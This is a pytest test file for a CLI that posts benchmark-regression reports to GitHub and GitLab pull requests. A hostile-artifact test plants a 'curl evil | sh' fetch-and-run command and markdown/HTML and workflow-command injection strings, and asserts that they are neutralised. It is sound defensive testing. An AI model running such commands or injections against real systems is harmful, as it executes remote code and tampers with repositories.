"""`regress post` from the command line: a job of GitHub's, a fork's, a job that follows it, a hostile artifact."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest

from regress.forge import artifact
from tests.forge.lab import Lab
from tests.forge.scripted import TOKEN, Fault, Scripted, serving

EVENTS = Path(__file__).parent.parent / "forge" / "events"
TIP, MERGE = "d" * 39 + "4", "c" * 39 + "3"
CI = ("GITHUB_", "GITLAB", "CI_", "GH_TOKEN", "JENKINS_URL", "BUILD_NUMBER", "CHANGE_", "BRANCH_")


@pytest.fixture
def job(monkeypatch, tmp_path):
    """Sets the environment of a CI job: the name of an event's file, and what else there is."""
    import os

    def enter(event: str, forge: Scripted | None = None, name: str = "", **more: str) -> Path:
        for variable in list(os.environ):
            if variable.startswith(CI):
                monkeypatch.delenv(variable)
        summary = tmp_path / "summary.md"
        found = {
            "no_proxy": "127.0.0.1", "GITHUB_ACTIONS": "true", "GITHUB_EVENT_NAME": name or event,
            "GITHUB_EVENT_PATH": str(EVENTS / f"{event}.json"), "GITHUB_SHA": MERGE, "GITHUB_REF": "refs/pull/42/merge",
            "GITHUB_REPOSITORY": "octo/widgets", "GITHUB_RUN_ID": "99", "GITHUB_STEP_SUMMARY": str(summary), **more,
        }  # fmt: skip
        if forge:
            found |= {"GITHUB_API_URL": forge.url, "GITHUB_TOKEN": TOKEN}
        for variable, value in found.items():
            monkeypatch.setenv(variable, value)
        return summary

    return enter


@pytest.fixture
def forge():
    with serving(Scripted()) as started:
        started.pull(42)
        yield started


@pytest.fixture
def red(ingested, regress):
    """The project with the report of its slow branch, and the file of its tests."""
    body = "def test_re():\n    pass\n\n\nclass TestX:\n    pass\n\n\ndef test_md5(benchmark):\n    pass\n"
    (ingested.root / "test_text.py").write_text(body)
    assert regress("check --commit slow --report json=red.json").status == 1
    assert regress("check --commit c2 --report json=green.json".replace("c2", ingested.commits["c2"])).status == 0
    return ingested


def test_one_comment_from_red_to_mended(red, regress, job, forge):
    job("pull_request", forge)
    done = regress("post red.json --site-url https://octo.github.io/widgets")
    assert done.status == 0, done.err
    assert "comment: created on GitHub #42 https://github.com/octo/widgets/pull/42#issuecomment-" in done.out
    body = forge.comments[42][0]["body"]
    assert body.startswith("<!-- regress:widgets:check -->\n### 🔴 RED: 1 regressed")
    assert re.search(r"\]\(https://octo.github.io/widgets/b/test_text\.py-test_md5-\w+\.html\)", body)
    assert "https://github.com/octo/widgets/actions/runs/99" in body
    done = regress("post green.json")
    assert "comment: updated on GitHub #42" in done.out
    assert len(forge.comments[42]) == 1
    assert "🟢" in forge.comments[42][0]["body"]
    assert "unchanged" in regress("post green.json").out
    assert "created" in regress("post green.json --key asv").out
    assert len(forge.comments[42]) == 2


def test_summary_and_annotations_need_no_token(red, regress, job):
    summary = job("pull_request")
    done = regress("post red.json --no-comment")
    assert (done.status, done.err) == (0, "")
    assert "::error file=test_text.py,line=9,title=regressed%3A test_text.py%3A%3Atest_md5 · time::" in done.out
    assert summary.read_text().startswith("### 🔴 RED")
    assert "regress:widgets" not in summary.read_text()
    assert "::error" not in regress("post red.json --no-comment --no-annotations --no-summary").out


def test_a_check_has_a_conclusion_on_the_tip(red, regress, job, forge):
    job("pull_request", forge)
    assert "check: failure, created on GitHub" in regress("post red.json --check").out
    assert (forge.checks[0]["head_sha"], forge.checks[0]["conclusion"]) == (TIP, "failure")
    assert forge.checks[0]["output"]["annotations"][0]["path"] == "test_text.py"
    done = regress("post green.json --check")
    assert "updated" in done.out
    assert forge.checks[0]["conclusion"] in ("success", "neutral")


def test_a_push_has_no_comment(red, regress, job, forge):
    summary = job("push", forge, GITHUB_REF="refs/heads/main")
    done = regress("post red.json")
    assert (done.status, done.err) == (0, "")
    assert forge.requests == []
    assert summary.exists()
    done = regress("post red.json --comment")
    assert "this job is of no pull request" in done.err


def test_what_cannot_be_posted_is_a_warning_unless_asked_otherwise(red, regress, job, forge):
    job("pull_request", forge)
    forge.script += [Fault(403, body=b'{"message": "Resource not accessible by integration"}')] * 2
    done = regress("post red.json")
    assert done.status == 0
    assert done.err.startswith("regress: warning: not posted: comment: GitHub: answered 403: Resource not accessible")
    assert "pull-requests" in done.err
    assert done.err.count("\n") == 1
    assert "summary: added" in done.out, "the others are posted all the same"
    assert regress("post red.json --strict-post").status == 4


def test_without_a_token_it_says_what_is_missing(red, regress, job):
    job("pull_request")
    assert "there is no token; set GITHUB_TOKEN" in regress("post red.json").err
    job("pull_request_fork", name="pull_request")
    assert "leave the JSON as an artifact" in regress("post red.json").err


def test_a_forks_own_token_may_not_write(red, regress, job, forge):
    forge.read_only = True
    job("pull_request_fork", forge, "pull_request")
    done = regress("post red.json")
    assert done.status == 0
    assert "leave the JSON as an artifact" in done.err
    assert forge.comments[42] == []


def test_dry_run_posts_nothing(red, regress, job, forge):
    summary = job("pull_request", forge)
    done = regress("post red.json --check --dry-run")
    assert done.status == 0
    assert "check: regress on dddddddddd would be failure" in done.out
    assert "### 🔴 RED" in done.out
    assert forge.requests == []
    assert not summary.exists()


def test_from_a_shell_with_a_number(red, regress, job, forge, monkeypatch):
    job("push", forge)
    for name in ("GITHUB_ACTIONS", "GITHUB_EVENT_NAME", "GITHUB_EVENT_PATH"):
        monkeypatch.delenv(name)
    assert "no repository is known" in regress("post red.json --number 42").err
    done = regress("post red.json --number 42 --repository octo/widgets")
    assert "comment: created on GitHub #42" in done.out, done.err


@pytest.mark.parametrize("text", ["", "{}", "\x00", '{"schema": 9, "verdicts": []}'])
def test_what_is_no_report_ends_with_4(red, regress, job, text):
    job("pull_request")
    Path("bad.json").write_text(text)
    done = regress("post bad.json")
    assert (done.status, done.err.count("\n")) == (4, 1)
    assert regress("post none.json").status == 4


# --- a fork's report, posted by the job that follows ---


def follow(forge, job):
    """The follow-up's environment, and the fork's pull request as the forge knows it."""
    mine, theirs = {"full_name": "octo/widgets"}, {"full_name": "mallory/widgets"}
    forge.pulls[:] = [{"number": 42, "state": "open", "head": {"sha": TIP, "ref": "main", "repo": theirs},
                       "base": {"ref": "main", "repo": mine}}]  # fmt: skip
    return job("workflow_run_fork", forge, "workflow_run", GITHUB_REF="refs/heads/main", GITHUB_SHA="a" * 39 + "1")


def test_a_forks_report_is_posted_where_the_event_says(red, regress, job, forge):
    follow(forge, job)
    done = regress("post red.json --from-fork --check")
    assert (done.status, done.err) == (0, "")
    body = forge.comments[42][0]["body"]
    assert "nobody here has measured them" in body
    assert f"Candidate `{TIP[:10]}`" in body
    assert "Repeat:" not in body
    assert [(one["head_sha"], one["conclusion"]) for one in forge.checks] == [(TIP, "failure")]
    assert "::error" not in done.out


def test_a_fork_makes_no_check_green(red, regress, job, forge):
    follow(forge, job)
    assert regress("post green.json --from-fork --check").status == 0
    assert forge.checks[0]["conclusion"] == "neutral"


def test_a_pull_request_that_has_moved_on_is_left_alone(red, regress, job, forge):
    follow(forge, job)
    forge.pulls[0]["head"]["sha"] = "e" * 40
    done = regress("post red.json --from-fork")
    assert (done.status, forge.comments[42]) == (0, [])
    assert "no open pull request has the tip dddddddddd any more" in done.out


def test_a_follow_up_never_trusts_a_report(red, regress, job, forge):
    follow(forge, job)
    regress("post red.json")
    assert "nobody here has measured them" in forge.comments[42][0]["body"]


@pytest.mark.parametrize("option", ["--number 1", "--repository octo/other", "--annotations"])
def test_what_a_privileged_job_may_not_be_told(red, regress, job, forge, option):
    follow(forge, job)
    done = regress(f"post red.json --from-fork {option}")
    assert (done.status, forge.requests) == (2, [])
    job("pull_request", forge)
    assert "is for a job that follows" in regress("post red.json --from-fork").err


EVIL = "`|</details><img src=x> @octocat [x](https://evil.example) <!-- regress:widgets:check -->\n::error::x\n/close"


def hostile(change):
    document = json.loads(Path("red.json").read_text())
    change(document)
    Path("evil.json").write_text(json.dumps(document))


def test_a_hostile_artifact_is_inert(red, regress, job, forge):
    follow(forge, job)

    def change(document):
        document |= {"headline": "APPROVED by @octocat", "project": EVIL, "status": 0, "command": "curl evil | sh",
                     "warnings": [EVIL], "notices": [EVIL]}  # fmt: skip
        document["candidate"] |= {"commit": "f" * 40, "what": EVIL, "reference": "--number 1"}
        document["number"], document["head"], document["repository"] = 1, "f" * 40, "octo/other"
        for verdict in document["verdicts"]:
            verdict |= {"name": EVIL, "reason": EVIL, "hint": EVIL}

    hostile(change)
    done = regress("post evil.json --from-fork --check --site-url https://octo.github.io/widgets")
    assert done.status == 0, done.err
    assert list(forge.comments) == [42]
    body = forge.comments[42][0]["body"]
    assert body.startswith("<!-- regress:widgets:check -->\n### 🔴 RED: 1 regressed"), "our own sum of its verdicts"
    for needle in ("APPROVED", "curl", "f" * 10, "<img", "](https://evil", "@octocat [", "\n/close", "\n::error"):
        assert needle not in re.sub(r"(`+).*?\1", "", body), needle
    assert forge.checks[0]["head_sha"] == TIP
    assert forge.checks[0]["conclusion"] == "failure"
    assert not [line for line in (done.out + done.err).splitlines() if line.startswith("::")]


@pytest.mark.parametrize(
    "change",
    [
        lambda d: d.update(distance="1\n# @octocat"),
        lambda d: d.update(schema=2),
        lambda d: d["verdicts"][0].update(change=[1]),
        lambda d: d.update(verdicts=d["verdicts"] * 9000),
        lambda d: d["environments"][0]["key"].update(x="y" * 9000),
    ],
)
def test_a_hostile_artifact_is_refused(red, regress, job, forge, change):
    follow(forge, job)
    hostile(change)
    done = regress("post evil.json --from-fork")
    assert done.status == 4
    assert re.fullmatch(r"regress: evil\.json: the artifact is refused: .*\n", done.err)
    assert forge.requests == []


def test_an_artifact_that_is_too_large_is_not_even_parsed(red, regress, job, forge, monkeypatch):
    follow(forge, job)
    monkeypatch.setattr(artifact, "MOST_BYTES", 100)
    assert "is larger than" in regress("post red.json --from-fork").err


def test_a_note_on_gitlab(red, regress, job, monkeypatch):
    with serving(Lab()) as lab:
        lab.notes[7] = []
        job("push")
        for name in ("GITHUB_ACTIONS", "GITHUB_EVENT_NAME"):
            monkeypatch.delenv(name)
        for name, value in {
            "GITLAB_CI": "true", "CI_PIPELINE_SOURCE": "merge_request_event", "CI_MERGE_REQUEST_IID": "7",
            "CI_PROJECT_PATH": lab.repository, "CI_API_V4_URL": lab.url, "GITLAB_TOKEN": "glpat-S3cret",
            "CI_COMMIT_SHA": MERGE,
        }.items():  # fmt: skip
            monkeypatch.setenv(name, value)
        assert "comment: created on GitLab #7" in regress("post red.json").out
        assert "comment: updated on GitLab #7" in regress("post green.json").out
        assert len(lab.notes[7]) == 1
